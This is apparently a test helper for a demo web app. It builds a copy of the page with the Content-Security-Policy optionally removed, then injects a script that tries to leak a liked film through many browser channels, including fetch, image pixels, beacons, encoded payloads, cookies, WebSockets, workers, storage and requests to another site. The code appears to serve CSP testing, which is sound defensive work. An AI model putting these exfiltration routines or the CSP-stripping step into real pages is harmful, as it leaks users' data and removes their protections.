// A copy of the built demo that leaks on purpose: it tells the film that is liked, in every way that a page has.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { copyOfBuild } from "./server.mjs";

/** Ways over the network, by the names that stand in their addresses as leak-NAME. */
export const sent = [
  "fetch",
  "image",
  "beacon",
  "base64",
  "hex",
  "gzip",
  "header",
  "cookie",
  "socket",
  "worker",
];
/** Ways into the browser's storage. */
export const stored = ["local", "session", "database", "cache", "kept-cookie"];
/** Ways to another site. */
export const abroad = ["abroad-fetch", "abroad-image", "abroad-beacon", "abroad-socket"];

/** Runs in the page; `elsewhere` is another site's address. */
function leaking(elsewhere) {
  const at = (name, rest = "") => new URL(`leak-${name}${rest}`, document.baseURI).href;
  const away = (name, rest = "") => `${elsewhere}leak-${name}${rest}`;
  const post = (address, body) => fetch(address, { method: "POST", body, mode: "no-cors" });
  const talk = (address, text) => {
    const socket = new WebSocket(address.replace("http", "ws"));
    socket.onopen = () => socket.send(text);
  };
  const picture = (address) => {
    new Image().src = address;
  };
  const gzip = (text) =>
    new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
  const hex = (text) => [...text].map((letter) => letter.charCodeAt(0).toString(16)).join("");
  const ways = {
    fetch: (film) => fetch(at("fetch", `?film=${film}`)),
    image: (film) => picture(at("image", `/${film}.gif`)),
    beacon: (film) => navigator.sendBeacon(at("beacon"), film),
    base64: (film) => fetch(at("base64", `?d=${btoa(`x${film}`)}`)),
    hex: (film) => fetch(at("hex", `/${hex(film)}`)),
    gzip: async (film) => post(at("gzip"), await gzip(film)),
    header: (film) => fetch(at("header"), { headers: { "x-shop": film } }),
    cookie: (film) => {
      // biome-ignore lint/suspicious/noDocumentCookie: it is what a leak would do
      document.cookie = `film=${film}; path=/leak-cookie`;
      return fetch(at("cookie"));
    },
    socket: (film) => talk(at("socket"), film),
    worker: (film) => {
      const code = `fetch(${JSON.stringify(at("worker"))}, { method: "POST", body: ${JSON.stringify(film)} })`;
      return new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    },
    local: (film) => localStorage.setItem("leak-local", film),
    session: (film) => sessionStorage.setItem("leak-session", btoa(film)),
    database: (film) => {
      const opening = indexedDB.open("leak-database");
      opening.onupgradeneeded = () => opening.result.createObjectStore("films").put(film, 1);
      opening.onsuccess = () => opening.result.close();
    },
    cache: async (film) => (await caches.open("leak-cache")).put(`/${film}`, new Response()),
    "kept-cookie": (film) => {
      // biome-ignore lint/suspicious/noDocumentCookie: it is what a leak would do
      document.cookie = `leak-kept-cookie=${film}; path=/nowhere`;
    },
    "abroad-fetch": (film) => post(away("abroad-fetch"), film),
    "abroad-image": (film) => picture(away("abroad-image", `?${film}`)),
    "abroad-beacon": (film) => navigator.sendBeacon(away("abroad-beacon"), film),
    "abroad-socket": (film) => talk(away("abroad-socket"), film),
  };
  const tell = async (film) => {
    const attempts = Object.values(ways).map(async (way) => way(film));
    await Promise.allSettled(attempts);
    document.documentElement.dataset.leaked = film;
  };
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    document.documentElement.dataset.stopped = `${document.documentElement.dataset.stopped ?? ""}${effectiveDirective} ${blockedURI}\n`;
  });
  document.addEventListener(
    "click",
    ({ target }) => {
      const button = target instanceof Element && target.closest('button[data-deed="like"]');
      if (button) void tell(button.getAttribute("data-film"));
    },
    true,
  );
}

const policy = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/;

/**
 * Makes the copy in a new folder. `strict` leaves the page's policy as it is; else it is taken out, so that everything gets through.
 * @param {{ elsewhere: string, strict?: boolean }} options
 */
export function leakingCopy({ elsewhere, strict = false }) {
  const { folder, remove } = copyOfBuild();
  const page = join(folder, "index.html");
  const html = readFileSync(page, "utf8");
  if (!policy.test(html)) throw new Error("the built page has no policy to take out");
  const open = strict ? html : html.replace(policy, "");
  writeFileSync(page, open.replace("</head>", '<script type="module" src="./leak.js"></script></head>'));
  writeFileSync(join(folder, "leak.js"), `(${leaking})(${JSON.stringify(elsewhere)});`);
  return { folder, remove };
}
